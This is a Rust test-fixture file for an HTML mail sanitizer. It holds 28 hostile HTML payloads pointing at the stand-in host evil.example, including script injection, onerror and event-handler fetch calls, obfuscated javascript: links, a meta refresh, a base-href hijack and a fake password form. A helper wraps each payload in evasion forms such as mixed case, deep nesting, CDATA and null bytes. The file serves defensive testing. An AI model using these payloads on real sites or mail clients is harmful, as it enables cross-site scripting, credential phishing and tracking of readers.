//! Pages of hostile mail, for tests alone: here of what is made from them, under `tests/gate` of what a browser does
//! with it.

/// What a hostile page would do, each with `evil.example` wherever it would load from or lead to.
pub const ACTS: [&str; 28] = [
    "<script>alert(document.domain)//evil.example</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=http://evil.example/p.gif onerror=alert(1)>",
    "<img src=x onerror=\"fetch('http://evil.example')\">",
    "<svg><script>alert('evil.example')</script></svg>",
    "<svg onload=fetch('//evil.example')><use href=http://evil.example/s.svg#x></svg>",
    "<math><mtext><style><img src=http://evil.example title='</style><img src=//evil.example>'></style></mtext></math>",
    "<style>body{background:url(http://evil.example/b.png)}</style>",
    "<style>@import 'http://evil.example/c.css';</style>",
    "<p style=\"background:url(http://evil.example/b.png);position:fixed;inset:0\">covers</p>",
    "<link rel=stylesheet href=http://evil.example/c.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><input name=password><button>Sign in</button></form>",
    "<a href=javascript:fetch('//evil.example')>click</a>",
    "<a href='  jav&#x09;ascript:fetch(`//evil.example`)'>click</a>",
    "<a href=data:text/html,http://evil.example target=_top>click</a>",
    "<iframe src=http://evil.example></iframe>",
    "<iframe srcdoc='<script>fetch(`//evil.example`)</script>'></iframe>",
    "<object data=http://evil.example/o.swf><embed src=http://evil.example/e></object>",
    "<video src=http://evil.example/v poster=http://evil.example/p><source src=//evil.example></video>",
    "<noscript><p title=\"</noscript><img src=//evil.example onerror=alert(1)>\">",
    "<template><img src=http://evil.example></template>",
    "<body onload=fetch('//evil.example') background=http://evil.example/b>",
    "<table background=http://evil.example/t width=100000 height=100000><tr><td colspan=65000 rowspan=65000>x</td></tr></table>",
    "<input autofocus onfocus=fetch('//evil.example')><select onchange=x><option>http-evil</select>",
    "<details open ontoggle=fetch('//evil.example')><summary>x</summary></details>",
    "<!--><img src=http://evil.example onerror=alert(1)>-->",
];

/// Ways in which it could lie.
pub fn wrapped(act: &str) -> [String; 8] {
    [
        act.to_owned(),
        format!("<div><table><tr><td>{act}</td></tr></table></div>"),
        format!("<blockquote>{}{act}", "<div>".repeat(400)),
        act.replace("<script", "<ScRiPt").replace("<img", "<IMG").replace("<iframe", "<iFRAME"),
        format!("<p title=\"{act}\">x</p>{act}"),
        format!("<![CDATA[{act}]]>{act}"),
        format!("<textarea>{act}</textarea><title>{act}</title><xmp>{act}</xmp>"),
        format!("\u{202e}{act}\u{0}<b>unclosed {act}<table><td>"),
    ]
}
